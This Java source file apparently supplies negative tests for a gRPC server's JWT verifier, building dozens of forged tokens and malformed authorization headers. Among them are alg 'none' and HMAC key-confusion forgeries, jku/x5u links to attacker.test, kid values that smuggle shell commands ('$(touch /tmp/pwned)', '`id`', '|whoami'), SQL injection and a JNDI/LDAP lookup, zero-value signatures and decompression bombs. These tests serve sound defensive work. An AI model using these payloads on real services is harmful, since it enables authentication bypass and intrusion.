package dev.tandem.auth;

import static dev.tandem.auth.GuardedServer.authorization;
import static dev.tandem.auth.GuardedServer.bearer;
import static dev.tandem.auth.TestIssuer.claims;
import static dev.tandem.auth.TestIssuer.encode;
import static dev.tandem.auth.TestIssuer.header;
import static dev.tandem.auth.TestIssuer.sign;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import io.grpc.InternalMetadata;
import io.grpc.InternalMetadata.TrustedAsciiMarshaller;
import io.grpc.Metadata;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.net.URI;
import java.time.Instant;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/**
 * What is known to have opened doors elsewhere, each made for the very keys of the server that it
 * is sent to: from RFC 8725, RFC 7515's examples, the CVEs that are named, and the lists that
 * testers of JSON Web Tokens work through.
 */
final class Attacks {

  private final Instant longAgo = Instant.now().minusSeconds(3600);

  private final TestIssuer issuer;
  private final TestIssuer stranger = new TestIssuer("issuer");
  private final Map<String, Metadata> all = new LinkedHashMap<>();

  private Attacks(TestIssuer issuer) {
    this.issuer = issuer;
  }

  /** Attacks on the server that trusts this issuer, by what they try. */
  static Map<String, Metadata> on(TestIssuer issuer) {
    Attacks attacks = new Attacks(issuer);
    try {
      attacks.unsigned();
      attacks.secretsThatArePublic();
      attacks.keysBroughtAlong();
      attacks.keyIds();
      attacks.headers();
      attacks.signatures();
      attacks.otherObjects();
      attacks.ambiguousJson();
      attacks.claimsThatDoNotHold();
      attacks.sizes();
      attacks.metadata();
      attacks.publicVectors();
    } catch (JOSEException | IOException e) {
      throw new IllegalStateException(e);
    }
    return attacks.all;
  }

  private void add(String name, String token) {
    add(name, bearer(token));
  }

  private void add(String name, Metadata headers) {
    if (all.putIfAbsent(name, headers) != null) {
      throw new IllegalStateException("two attacks are called " + name);
    }
  }

  /** CVE-2015-9235 and its like, CVE-2020-28042, CVE-2022-23540. */
  private void unsigned() {
    String payload = encode(claims().build().toString());
    for (String none : List.of("none", "None", "NONE", "nOnE", "noNe", "none ", "")) {
      String header =
          encode("{\"alg\":\"%s\",\"kid\":\"%s\"}".formatted(none, issuer.ec.getKeyID()));
      add("alg '" + none + "' without a signature", header + "." + payload + ".");
      add("alg '" + none + "' without a third part", header + "." + payload);
      add(
          "alg '" + none + "' with the signature of another token",
          header + "." + payload + "." + part(issuer.token(), 2));
    }
    add(
        "alg null",
        issuer.raw(
            "{\"alg\":null,\"kid\":\"%s\"}".formatted(issuer.ec.getKeyID()),
            claims().build().toString()));
    add(
        "no alg",
        issuer.raw(
            "{\"kid\":\"%s\"}".formatted(issuer.ec.getKeyID()), claims().build().toString()));
    add(
        "alg in another case",
        issuer.raw(
            "{\"alg\":\"es256\",\"kid\":\"%s\"}".formatted(issuer.ec.getKeyID()),
            claims().build().toString()));
    add(
        "alg as a list",
        issuer.raw(
            "{\"alg\":[\"ES256\"],\"kid\":\"%s\"}".formatted(issuer.ec.getKeyID()),
            claims().build().toString()));
    add(
        "alg of another key's kind",
        issuer.raw(
            "{\"alg\":\"RS256\",\"kid\":\"%s\"}".formatted(issuer.ec.getKeyID()),
            claims().build().toString()));
    add(
        "alg ES384 with a key for ES256",
        issuer.raw(
            "{\"alg\":\"ES384\",\"kid\":\"%s\"}".formatted(issuer.ec.getKeyID()),
            claims().build().toString()));
    add("an empty signature", withoutSignature(issuer.token()) + ".");
    add("no signature", withoutSignature(issuer.token()));
  }

  /** CVE-2016-5431, CVE-2016-10555: the public key's bytes taken for an HMAC secret. */
  private void secretsThatArePublic() throws JOSEException {
    byte[] der = issuer.rsa.toRSAPublicKey().getEncoded();
    String base64 = Base64.encode(der).toString();
    String pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + base64.replaceAll("(.{64})", "$1\n")
            + "\n-----END PUBLIC KEY-----";
    Map<String, byte[]> secrets = new LinkedHashMap<>();
    secrets.put("PEM", pem.getBytes(UTF_8));
    secrets.put("PEM with a newline at its end", (pem + "\n").getBytes(UTF_8));
    secrets.put("PEM in one line", pem.replace("\n", "").getBytes(UTF_8));
    secrets.put("DER", der);
    secrets.put("DER in base64", base64.getBytes(UTF_8));
    secrets.put("modulus", issuer.rsa.getModulus().decode());
    secrets.put("modulus in base64url", issuer.rsa.getModulus().toString().getBytes(UTF_8));
    secrets.put("JWK", issuer.rsa.toPublicJWK().toJSONString().getBytes(UTF_8));
    secrets.put("JWKS", issuer.jwks());
    for (var secret : secrets.entrySet()) {
      for (JWSAlgorithm algorithm :
          List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS384, JWSAlgorithm.HS512)) {
        if (secret.getValue().length * 8 >= MACSigner.getMinRequiredSecretLength(algorithm)) {
          add(
              "%s with the RSA public key's %s as the secret".formatted(algorithm, secret.getKey()),
              sign(
                  header(algorithm, issuer.rsa.getKeyID()),
                  claims(),
                  new MACSigner(secret.getValue())));
        }
      }
    }
    add(
        "HS256 with the EC public key's DER as the secret",
        sign(
            header(JWSAlgorithm.HS256, issuer.ec.getKeyID()),
            claims(),
            new MACSigner(issuer.ec.toECPublicKey().getEncoded())));
    add(
        "HS256 with zeros as the secret",
        sign(
            header(JWSAlgorithm.HS256, issuer.rsa.getKeyID()),
            claims(),
            new MACSigner(new byte[32])));
  }

  /** CVE-2018-0114 and RFC 8725, section 3.10. */
  private void keysBroughtAlong() {
    add(
        "a stranger's key in jwk",
        stranger.ec(header -> header.jwk(stranger.ec.toPublicJWK()), claims()));
    add(
        "a stranger's RSA key in jwk",
        stranger.rsa(header -> header.jwk(stranger.rsa.toPublicJWK()), claims()));
    add(
        "a private key in jwk",
        stranger.signed(
            encode(
                    "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"jwk\":"
                        + stranger.ec.toJSONString()
                        + "}")
                + "."
                + encode(claims().build().toString())));
    add(
        "a stranger's key at jku",
        stranger.ec(
            header -> header.jwkURL(URI.create("https://attacker.test/jwks.json")), claims()));
    add(
        "a stranger's key at jku on this machine",
        stranger.ec(header -> header.jwkURL(URI.create("http://127.0.0.1:1/jwks.json")), claims()));
    add(
        "a stranger's key at jku in a file",
        stranger.ec(header -> header.jwkURL(URI.create("file:///etc/passwd")), claims()));
    add(
        "a stranger's key at x5u",
        stranger.rsa(
            header -> header.x509CertURL(URI.create("https://attacker.test/cert.pem")), claims()));
    add(
        "a stranger's certificate in x5c",
        stranger.rsa(
            header -> header.x509CertChain(List.of(Base64.encode("not a certificate"))), claims()));
    add(
        "a stranger's certificate by its thumbprint",
        stranger.rsa(
            header -> header.x509CertSHA256Thumbprint(Base64URL.encode(new byte[32])), claims()));
    add(
        "the issuer's own key in jwk",
        issuer.ec(header -> header.jwk(issuer.ec.toPublicJWK()), claims()));
    add("a stranger's key under the issuer's kid", stranger.token());
  }

  private void keyIds() {
    for (String keyId :
        List.of(
            "../../../../../../dev/null",
            "/dev/null",
            "file:///proc/self/environ",
            "..\\\\..\\\\windows\\\\win.ini",
            "/proc/sys/kernel/randomize_va_space",
            "issuer-ec' OR '1'='1",
            "x' UNION SELECT 'secret';-- ",
            "issuer-ec|whoami",
            "$(touch /tmp/pwned)",
            "`id`",
            "${jndi:ldap://attacker.test/a}",
            "issuer-ec\\u0000",
            "issuer-ec\\n",
            "ISSUER-EC",
            " issuer-ec",
            "https://attacker.test/key",
            "%2e%2e%2fetc%2fpasswd",
            "k".repeat(2000),
            "")) {
      add(
          "kid " + (keyId.length() > 100 ? "of 2000 letters" : "'" + keyId + "'"),
          stranger.raw(
              "{\"alg\":\"ES256\",\"kid\":\"" + keyId + "\"}", claims().build().toString()));
    }
    add("no kid", issuer.raw("{\"alg\":\"ES256\"}", claims().build().toString()));
    add(
        "kid as a number",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":1}", claims().build().toString()));
    add(
        "kid as a list",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":[\"issuer-ec\"]}", claims().build().toString()));
    add(
        "kid as an object",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":{\"a\":\"b\"}}", claims().build().toString()));
    add(
        "kid of another key",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-rsa\"}", claims().build().toString()));
  }

  private void headers() {
    add(
        "a critical parameter that nobody knows",
        issuer.ec(header -> header.criticalParams(Set.of("exp")).customParam("exp", 1), claims()));
    add(
        "an empty list of critical parameters",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"crit\":[]}", claims().build().toString()));
    add(
        "a payload that is not encoded (b64)",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"b64\":false,\"crit\":[\"b64\"]}",
            claims().build().toString()));
    add(
        "b64 without crit",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"b64\":false}",
            claims().build().toString()));
    add(
        "a token of another kind (typ)",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"typ\":\"logout+jwt\"}",
            claims().build().toString()));
    add(
        "zip in a signed token",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"zip\":\"DEF\"}",
            claims().build().toString()));
    add("a header that is not JSON", issuer.raw("ES256", claims().build().toString()));
    add("a header that is a list", issuer.raw("[]", claims().build().toString()));
    add("a header that is null", issuer.raw("null", claims().build().toString()));
    add(
        "a header of half a JSON",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"", claims().build().toString()));
    add(
        "a header that is a thousand lists deep",
        issuer.raw("[".repeat(1000) + "]".repeat(1000), claims().build().toString()));
    add(
        "a header with a value a thousand lists deep",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"x\":"
                + "[".repeat(1000)
                + "]".repeat(1000)
                + "}",
            claims().build().toString()));
  }

  private void signatures() throws JOSEException {
    String token = issuer.token();
    String rsa = issuer.rsa(header -> header, claims());
    String ed25519 = issuer.ed25519(claims());
    for (var kind : Map.of("ES256", token, "RS256", rsa, "EdDSA", ed25519).entrySet()) {
      byte[] signature = Base64URL.from(part(kind.getValue(), 2)).decode();
      String unsigned = withoutSignature(kind.getValue());
      add(
          kind.getKey() + " signature without its last byte",
          unsigned
              + "."
              + Base64URL.encode(java.util.Arrays.copyOf(signature, signature.length - 1)));
      add(
          kind.getKey() + " signature of one byte",
          unsigned + "." + Base64URL.encode(new byte[] {1}));
      add(
          kind.getKey() + " signature with a byte more",
          unsigned
              + "."
              + Base64URL.encode(java.util.Arrays.copyOf(signature, signature.length + 1)));
      add(
          kind.getKey() + " signature of zeros (CVE-2022-21449)",
          unsigned + "." + Base64URL.encode(new byte[signature.length]));
      for (int bit : List.of(0, 7, signature.length * 4, signature.length * 8 - 1)) {
        byte[] changed = signature.clone();
        changed[bit / 8] ^= (byte) (1 << (bit % 8));
        add(
            "%s signature with bit %d changed".formatted(kind.getKey(), bit),
            unsigned + "." + Base64URL.encode(changed));
      }
      add(
          kind.getKey() + " signature of another token",
          unsigned + "." + part(stranger.token(), 2));
      add(
          kind.getKey() + " token with another subject",
          part(kind.getValue(), 0)
              + "."
              + encode(claims().subject("root").build().toString())
              + "."
              + part(kind.getValue(), 2));
      add(
          kind.getKey() + " token with another header",
          encode(
                  "{\"alg\":\""
                      + kind.getKey()
                      + "\",\"kid\":\"issuer-"
                      + Map.of("ES256", "ec", "RS256", "rsa", "EdDSA", "ed25519").get(kind.getKey())
                      + "\"}")
              + "."
              + part(kind.getValue(), 1)
              + "."
              + part(kind.getValue(), 2));
    }
    byte[] order = issuer.ec.getCurve().toECParameterSpec().getOrder().toByteArray();
    byte[] n = java.util.Arrays.copyOfRange(order, order.length - 32, order.length);
    add(
        "ES256 signature with r and s the group's order",
        withoutSignature(token) + "." + Base64URL.encode(concat(n, n)));
    add(
        "ES256 signature with r one and s zero",
        withoutSignature(token)
            + "."
            + Base64URL.encode(concat(bytes(BigInteger.ONE), new byte[32])));
    add(
        "ES256 signature in DER",
        withoutSignature(token)
            + "."
            + Base64URL.encode(
                com.nimbusds.jose.crypto.impl.ECDSA.transcodeSignatureToDER(
                    Base64URL.from(part(token, 2)).decode())));
    add(
        "a signature in the alphabet of plain base64",
        withoutSignature(token) + "." + part(token, 2).replace('-', '+').replace('_', '/') + "==");
    add("a signature with padding", token + "==");
    add(
        "a signature whose last letter has other unused bits",
        token.substring(0, token.length() - 1) + sibling(token.charAt(token.length() - 1)));
    add(
        "a signature with a line break in it",
        withoutSignature(token)
            + "."
            + part(token, 2).substring(0, 10)
            + " "
            + part(token, 2).substring(10));
    add("RS256 by a key of a stranger with the same kid", stranger.rsa(header -> header, claims()));
    add(
        "PS256 with the issuer's RSA key",
        sign(
            header(JWSAlgorithm.PS256, issuer.rsa.getKeyID()),
            claims(),
            new RSASSASigner(issuer.rsa)));
    add(
        "RS512 with the issuer's RSA key",
        sign(
            header(JWSAlgorithm.RS512, issuer.rsa.getKeyID()),
            claims(),
            new RSASSASigner(issuer.rsa)));
    add(
        "a stranger's ES256",
        sign(
            header(JWSAlgorithm.ES256, issuer.ec.getKeyID()),
            claims(),
            new ECDSASigner(stranger.ec)));
  }

  /** RFC 8725, sections 2.5 and 3.11; the bomb of CVE-2024-28176 and CVE-2024-21319. */
  private void otherObjects() throws JOSEException, IOException {
    JWEObject encrypted =
        new JWEObject(
            new JWEHeader.Builder(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A128GCM)
                .keyID(issuer.rsa.getKeyID())
                .build(),
            new Payload(claims().build().toString()));
    encrypted.encrypt(new RSAEncrypter(issuer.rsa.toRSAPublicKey()));
    add("an encrypted token in place of a signed one", encrypted.serialize());
    String bomb = Base64URL.encode(deflated(new byte[4 * 1024 * 1024])).toString();
    add(
        "an encrypted token with a bomb in it",
        encode("{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"zip\":\"DEF\"}")
            + ".."
            + Base64URL.encode(new byte[12])
            + "."
            + bomb.substring(0, 4000)
            + "."
            + Base64URL.encode(new byte[16]));
    add(
        "a signed bomb",
        issuer.signed(
            encode("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"zip\":\"DEF\"}")
                + "."
                + bomb.substring(0, 4000)));
    add(
        "a signed token in a signed one",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"cty\":\"JWT\"}", issuer.token()));
    add(
        "a signed token in a signed one that does not say so",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", issuer.token()));
    add(
        "the JSON form of a signed token",
        "{\"payload\":\""
            + part(issuer.token(), 1)
            + "\",\"protected\":\""
            + part(issuer.token(), 0)
            + "\",\"signature\":\""
            + part(issuer.token(), 2)
            + "\"}");
    add("two tokens with a comma between", issuer.token() + "," + issuer.token());
    add("a fourth part", issuer.token() + ".eyJ9");
    add(
        "a payload that is not JSON",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", "ada"));
    add("a payload that is a list", issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", "[]"));
    add(
        "a payload a thousand lists deep",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}",
            "{\"a\":" + "[".repeat(1500) + "]".repeat(1500) + "}"));
  }

  /** RFC 7515, section 5.2, and RFC 7519, section 4: names must be unique. */
  private void ambiguousJson() {
    String payload = claims().build().toString();
    add(
        "two algs, none first",
        issuer.raw("{\"alg\":\"none\",\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", payload));
    add(
        "two algs, none last",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\",\"alg\":\"none\"}", payload));
    add(
        "two kids",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-rsa\",\"kid\":\"issuer-ec\"}", payload));
    add(
        "two subjects",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}",
            payload.replace("{", "{\"sub\":\"root\",")));
    add(
        "two subjects, one of them escaped",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}",
            payload.replace("{", "{\"\\u0073ub\":\"root\",")));
    add(
        "two expiries",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", payload.replace("{", "{\"exp\":1,")));
  }

  private void claimsThatDoNotHold() {
    add("expired", issuer.token(claims(longAgo)));
    add(
        "expired in the year 1970",
        issuer.token(claims().expirationTime(Date.from(Instant.EPOCH))));
    add(
        "not yet valid",
        issuer.token(claims().notBeforeTime(Date.from(Instant.now().plusSeconds(120)))));
    add("issued in the future", issuer.token(claims(Instant.now().plusSeconds(120))));
    add("no expiry", issuer.token(claims().expirationTime(null)));
    add("no time of issue", issuer.token(claims().issueTime(null)));
    add(
        "expires in ten years",
        issuer.token(claims().expirationTime(Date.from(Instant.now().plusSeconds(315_360_000)))));
    add("another audience", issuer.token(claims().audience("elsewhere")));
    add(
        "audiences without ours",
        issuer.token(claims().audience(List.of("elsewhere", "tandem2", "TANDEM"))));
    add("no audience", issuer.token(claims().audience((String) null)));
    add("another issuer", issuer.token(claims().issuer("https://issuer.test.attacker.test")));
    add("the issuer with a slash", issuer.token(claims().issuer(TestIssuer.ISSUER + "/")));
    add("the issuer in another case", issuer.token(claims().issuer("HTTPS://issuer.test")));
    add("no issuer", issuer.token(claims().issuer(null)));
    add("no subject", issuer.token(claims().subject(null)));
    add("a blank subject", issuer.token(claims().subject(" ")));
    add("a subject of two lines", issuer.token(claims().subject("ada\nroot")));
    add("a subject of 300 letters", issuer.token(claims().subject("a".repeat(300))));
    for (String bad :
        List.of(
            "\"tomorrow\"",
            "[]",
            "{}",
            "true",
            "-1",
            "9223372036854775807",
            "1e400",
            "1e18",
            "\"99999999999\"")) {
      add(
          "exp " + bad,
          issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", payload("exp", bad)));
      add(
          "nbf " + bad.replace("-1", "99999999999"),
          issuer.raw(
              "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}",
              payload("nbf", bad.replace("-1", "99999999999"))));
    }
    add(
        "iss as a list",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}",
            payload("iss", "[\"" + TestIssuer.ISSUER + "\"]")));
    add(
        "sub as a number",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", payload("sub", "1")));
    add(
        "aud as an object",
        issuer.raw(
            "{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", payload("aud", "{\"tandem\":true}")));
    add(
        "scope as a list",
        issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", payload("scope", "[\"admin\"]")));
    add("no claims at all", issuer.raw("{\"alg\":\"ES256\",\"kid\":\"issuer-ec\"}", "{}"));
  }

  private void sizes() {
    add("a token of 6145 letters", "a".repeat(6145));
    add("a token of 200 KiB", "eyJ".repeat(66_000) + ".a.b");
    add(
        "a valid token that is too large",
        issuer.token(claims().claim("groups", "g".repeat(6000))));
    add("5000 dots", ".".repeat(5000));
    add("a long header", "a".repeat(6000) + ".AA.AA");
    add("an empty token", "");
    add("one dot", ".");
    add("two dots", "..");
  }

  private void metadata() {
    String token = issuer.token();
    add("no authorization", new Metadata());
    add("an empty authorization", authorization(""));
    add("the scheme alone", authorization("Bearer"));
    add("the scheme and a space", authorization("Bearer "));
    add("a token without a scheme", authorization(token));
    for (String scheme :
        List.of(
            "Basic", "Digest", "DPoP", "Token", "JWT", "Negotiate", "Bearer2", "BearerBearer")) {
      add("the scheme " + scheme, authorization(scheme + " " + token));
    }
    add("two spaces", authorization("Bearer  " + token));
    add("a tab in place of the space", authorization("Bearer\t" + token));
    add("a space before the scheme", authorization("  Bearer " + token));
    add("a space after the token", authorization("Bearer " + token + " "));
    add("a tab after the token", authorization("Bearer " + token + "\t"));
    add("a colon", authorization("Bearer: " + token));
    add("quotes", authorization("Bearer \"" + token + "\""));
    add("a comma and another scheme", authorization("Basic YTpi, Bearer " + token));
    add("a parameter", authorization("Bearer token=" + token));
    add("the same token twice", authorization("Bearer " + token, "Bearer " + token));
    add("a good token before a bad one", authorization("Bearer " + token, "Bearer x"));
    add("a bad token before a good one", authorization("Bearer x", "Bearer " + token));
    add("an empty one before a good one", authorization("", "Bearer " + token));
    add("letters that are not ASCII", bytes(("Bearer " + token + "é").getBytes(UTF_8)));
    add("full-width letters for the scheme", bytes(("Ｂearer " + token).getBytes(UTF_8)));
    add("a no-break space", bytes(("Bearer\u00a0" + token).getBytes(UTF_8)));
    add(
        "a zero-width space in the token",
        bytes(("Bearer " + token.substring(0, 9) + "\u200b" + token.substring(9)).getBytes(UTF_8)));
    add(
        "bytes that are no UTF-8",
        bytes(
            concat(
                "Bearer ".getBytes(UTF_8),
                concat(token.getBytes(UTF_8), new byte[] {(byte) 0xff, (byte) 0xfe}))));
  }

  /** RFC 7515, appendices A.1, A.2, A.3 and A.5; RFC 8037, appendix A.4. */
  private void publicVectors() {
    String payload =
        "eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ";
    add(
        "RFC 7515 A.1, HS256",
        "eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9."
            + payload
            + ".dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk");
    add(
        "RFC 7515 A.2, RS256",
        "eyJhbGciOiJSUzI1NiJ9."
            + payload
            + ".cC4hiUPoj9Eetdgtv3hF80EGrhuB__dzERat0XF9g2VtQgr9PJbu3XOiZj5RZmh7AAuHIm4Bh-0Qc_lF5YKt_O8W2Fp5jujGbds9uJdbF9CUAr7t1dnZcAcQjbKBYNX4BAynRFdiuB--f_nZLgrnbyTyWzO75vRK5h6xBArLIARNPvkSjtQBMHlb1L07Qe7K0GarZRmB_eSN9383LcOLn6_dO--xi12jzDwusC-eOkHWEsqtFZESc6BfI7noOPqvhJ1phCnvWh6IeYI2w9QOYEUipUTI8np6LbgGY9Fs98rqVt5AXLIhWkWywlVmtVrBp0igcN_IoypGlUPQGe77Rg");
    add(
        "RFC 7515 A.3, ES256",
        "eyJhbGciOiJFUzI1NiJ9."
            + payload
            + ".DtEhU3ljbEg8L38VWAfUAqOyKAM6-Xx-F4GawxaepmXFCgfTjDxw5djxLa8ISlSApmWQxfKTUJqPP3-Kg6NU1Q");
    add("RFC 7515 A.5, unsecured", "eyJhbGciOiJub25lIn0." + payload + ".");
    add(
        "RFC 8037 A.4, EdDSA",
        "eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc.hgyY0il_MGCjP0JzlnLWG1PPOt7-09PGcvMg3AIbQR6dWbhijcNR4ki4iylGjg5BhVsPt9g7sVvpAr_MuM0KAg");
  }

  /** Claims that are in order except for one, which is this very JSON. */
  private static String payload(String claim, String json) {
    JWTClaimsSet claims =
        new JWTClaimsSet.Builder(claims().build()).claim(claim, "REPLACED").build();
    return claims.toPayload().toString().replace("\"REPLACED\"", json);
  }

  private static String part(String token, int index) {
    return token.split("\\.", -1)[index];
  }

  private static String withoutSignature(String token) {
    return token.substring(0, token.lastIndexOf('.'));
  }

  /** A letter that differs only in bits which 64 bytes leave unused. */
  private static char sibling(char letter) {
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    return alphabet.charAt(alphabet.indexOf(letter) ^ 1);
  }

  private static byte[] bytes(BigInteger number) {
    byte[] bytes = new byte[32];
    bytes[31] = number.byteValueExact();
    return bytes;
  }

  private static byte[] concat(byte[] first, byte[] second) {
    byte[] both = java.util.Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }

  private static byte[] deflated(byte[] bytes) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (DeflaterOutputStream deflater =
        new DeflaterOutputStream(out, new Deflater(Deflater.BEST_COMPRESSION, true))) {
      deflater.write(bytes);
    }
    return out.toByteArray();
  }

  private static Metadata bytes(byte[] value) {
    Metadata headers = new Metadata();
    headers.put(
        InternalMetadata.keyOf(
            "authorization",
            new TrustedAsciiMarshaller<byte[]>() {
              @Override
              public byte[] toAsciiString(byte[] bytes) {
                return bytes;
              }

              @Override
              public byte[] parseAsciiString(byte[] bytes) {
                return bytes;
              }
            }),
        value);
    return headers;
  }
}
